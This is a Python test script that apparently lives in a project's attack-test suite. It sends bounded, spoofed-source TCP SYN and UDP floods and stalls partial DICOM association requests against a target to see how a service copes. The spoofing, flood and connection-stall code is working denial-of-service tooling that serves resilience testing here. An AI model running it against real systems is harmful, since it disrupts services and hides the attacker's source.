#!/usr/bin/python3
"""Attackers for tests/attack, standard library only; every flood bounded.

  flood.py syn DST PORT --net A.B.C.D --hosts N --count C [--seconds S]
        C spoofed TCP SYNs to DST:PORT from the N addresses after A.B.C.D
        (A.B.C.D+0 .. +N-1), random source ports and ISNs, through a raw
        socket; stops after S seconds whatever is left. Prints the number
        sent. Run it inside a test namespace only.
  flood.py udp DST PORT --net A.B.C.D --hosts N --count C [--seconds S] [--pps R]
        The same with C spoofed UDP datagrams (8 bytes of payload), each
        from a random source port: a new flow each. --pps R (either
        flood) paces it at R a second.
  flood.py stall DST PORT --from ADDR[,ADDR...] --per N [--bytes B] [--hold S]
        From each ADDR, N connections that send the first B bytes of an
        A-ASSOCIATE-RQ and then nothing; after S seconds prints, as JSON,
        how many were answered with an A-ASSOCIATE-RJ, an A-ABORT, a
        reset, and how many got nothing ("silent").
"""
import argparse
import json
import os
import random
import select
import socket
import struct
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [os.path.join(HERE, "..", "netns"), os.path.join(HERE, "..", "pcap")]
import craft  # noqa: E402  (IPv4 and TCP headers)
import peer  # noqa: E402  (the RQ builder)


def syn_packet(src, dst, sport, dport, isn):
    src, dst = socket.inet_aton(src), socket.inet_aton(dst)
    return craft.ipv4(src, dst, 6, craft.tcp(src, dst, sport, dport, isn, 0, craft.SYN, b""),
                      random.getrandbits(16))


def udp_packet(src, dst, sport, dport, _isn):
    src, dst = socket.inet_aton(src), socket.inet_aton(dst)
    data = b"scanwall"
    # checksum 0: none, legal over IPv4
    return craft.ipv4(src, dst, 17, struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data,
                      random.getrandbits(16))


def spoof_flood(args, packet):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    base = struct.unpack("!I", socket.inet_aton(args.net))[0]
    start = time.monotonic()
    end = start + args.seconds
    sent = 0
    while sent < args.count and time.monotonic() < end:
        if args.pps and sent > args.pps * (time.monotonic() - start):
            time.sleep(0.002)
            continue
        src = socket.inet_ntoa(struct.pack("!I", base + sent % args.hosts))
        pkt = packet(src, args.dst, random.randint(1024, 65535), args.port,
                     random.getrandbits(32))
        try:
            s.sendto(pkt, (args.dst, 0))
            sent += 1
        except BlockingIOError:
            time.sleep(0.001)
    print(sent)
    return 0


def cmd_syn(args):
    return spoof_flood(args, syn_packet)


def cmd_udp(args):
    return spoof_flood(args, udp_packet)


def outcome(s):
    """What came back on a stalled connection, if anything yet."""
    try:
        data = s.recv(16)
    except (ConnectionResetError, OSError):
        return "reset"
    if not data:
        return "closed"
    return {0x03: "rj", 0x07: "abort"}.get(data[0], "other")


def cmd_stall(args):
    head = peer.assoc_rq("STALL", "SYMBIA")[:args.bytes]
    socks, result = [], {"rj": 0, "abort": 0, "reset": 0, "closed": 0, "other": 0,
                         "silent": 0, "refused": 0}
    for addr in args.sources.split(","):
        for _ in range(args.per):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(5)
            s.bind((addr, 0))
            try:
                s.connect((args.dst, args.port))
                s.sendall(head)
            except OSError:
                result["refused"] += 1
                s.close()
                continue
            s.setblocking(False)
            socks.append(s)
    end = time.monotonic() + args.hold
    pending = list(socks)
    while pending and time.monotonic() < end:
        ready, _, _ = select.select(pending, [], [], max(0, end - time.monotonic()))
        for s in ready:
            result[outcome(s)] += 1
            pending.remove(s)
    result["silent"] = len(pending)
    for s in socks:
        s.close()
    print(json.dumps(result))
    return 0


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    for name in ("syn", "udp"):
        p = sub.add_parser(name)
        p.add_argument("dst")
        p.add_argument("port", type=int)
        p.add_argument("--net", required=True)
        p.add_argument("--hosts", type=int, default=64)
        p.add_argument("--count", type=int, default=1024)
        p.add_argument("--seconds", type=float, default=10)
        p.add_argument("--pps", type=float, default=0)
    p = sub.add_parser("stall")
    p.add_argument("dst")
    p.add_argument("port", type=int)
    p.add_argument("--from", dest="sources", required=True)
    p.add_argument("--per", type=int, default=8)
    p.add_argument("--bytes", type=int, default=10)
    p.add_argument("--hold", type=float, default=5)
    args = ap.parse_args()
    return {"syn": cmd_syn, "udp": cmd_udp, "stall": cmd_stall}[args.cmd](args)


if __name__ == "__main__":
    sys.exit(main())
